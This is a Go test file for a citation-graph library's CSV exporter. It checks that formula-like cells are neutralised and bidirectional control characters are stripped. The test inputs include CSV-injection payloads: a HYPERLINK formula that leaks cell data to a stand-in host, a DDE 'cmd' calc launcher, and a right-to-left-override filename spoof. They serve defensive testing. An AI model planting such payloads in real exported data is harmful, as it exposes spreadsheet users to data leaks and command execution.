package csv_test

import (
	"bytes"
	stdcsv "encoding/csv"
	"testing"

	"github.com/citegraph/citegraph/graph"
	"github.com/citegraph/citegraph/graph/encoding/csv"
)

func TestWriteNodes(t *testing.T) {
	g := graph.Build([]graph.Record{
		{DOI: "10.1/b", Title: "Second, \"quoted\"\ntitle", Year: 2014, Authors: []graph.Author{{Family: "Gillard"}}},
		{DOI: "10.1/a", Title: "First", Year: 2012},
	})
	var buf bytes.Buffer
	label := func(w *graph.Work) string { return w.Surname() }
	err := csv.WriteNodes(&buf, g, []int64{1, 0}, label, csv.Float("score", []float64{0.25, 1.0 / 3}), csv.Int("n", []int{3, 4}), csv.Int("short", nil))
	if err != nil {
		t.Fatal(err)
	}
	want := "key,label,kind,first_author,year,title,venue,doi,score,n,short\n" +
		"doi:10.1/b,Gillard,work,Gillard,2014,\"Second, \"\"quoted\"\" title\",,10.1/b,0.3333333333,4,\n" +
		"doi:10.1/a,,work,,2012,First,,10.1/a,0.25,3,\n"
	if got := buf.String(); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	rows, err := stdcsv.NewReader(&buf).ReadAll()
	if err != nil || len(rows) != 3 || rows[1][5] != `Second, "quoted" title` {
		t.Errorf("read back: %q, %v", rows, err)
	}
}

// TestCell holds the CSV-injection cases of issue 16 (item 2): the cells
// OWASP's "CSV Injection" guidance names as formulas (starting with '=',
// '+', '-', '@', tab or carriage return) get a leading single quote, the
// numbers among them do not; bidirectional controls go.
func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://x.example/?"&A1,"Click")`: `'=HYPERLINK("http://x.example/?"&A1,"Click")`,
		"+1+cmd|' /C calc'!A0":                        "'+1+cmd|' /C calc'!A0",
		"@SUM(A1)":                                    "'@SUM(A1)",
		"-2+3":                                        "'-2+3",
		"\t=1+1":                                      "' =1+1", // the tab is a space, then quoted
		"\r=1+1":                                      "' =1+1",
		"  =1":                                        "'  =1",
		"-":                                           "'-",
		"- a list":                                    "'- a list",
		"-3":                                          "-3",
		"-2.5":                                        "-2.5",
		"+1":                                          "+1",
		"1e-05":                                       "1e-05",
		"-1.5e+10":                                    "-1.5e+10",
		".5":                                          ".5",
		"-.5":                                         "-.5",
		"+Inf":                                        "+Inf",
		"-Inf":                                        "-Inf",
		"NaN":                                         "NaN",
		"-1e":                                         "'-1e",
		"-.":                                          "'-.",
		"10.1/x":                                      "10.1/x",
		"Peer support = recovery":                     "Peer support = recovery",
		"":                                            "",
		"evil\u202Efdp.exe":                           "evilfdp.exe", // U+202E RIGHT-TO-LEFT OVERRIDE
		"\u2066a\u2069 \u200Eb\u200F \u061Cc":         "a b c",
		"\u202E=1+1":                                  "'=1+1", // dropped first, then quoted
		"line\nbreak":                                 "line break",
		"日本語":                                         "日本語",
	} {
		if got := csv.Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestWriteTableInert: a formula written through WriteTable reads back
// (encoding/csv) with its quote; the row handed over is not changed.
func TestWriteTableInert(t *testing.T) {
	row := []string{"=1+1", "-2", "@A1"}
	var buf bytes.Buffer
	if err := csv.WriteTable(&buf, []string{"a", "b", "c"}, [][]string{row}); err != nil {
		t.Fatal(err)
	}
	if got, want := buf.String(), "a,b,c\n'=1+1,-2,'@A1\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	if row[0] != "=1+1" {
		t.Errorf("WriteTable changed its row: %q", row)
	}
}
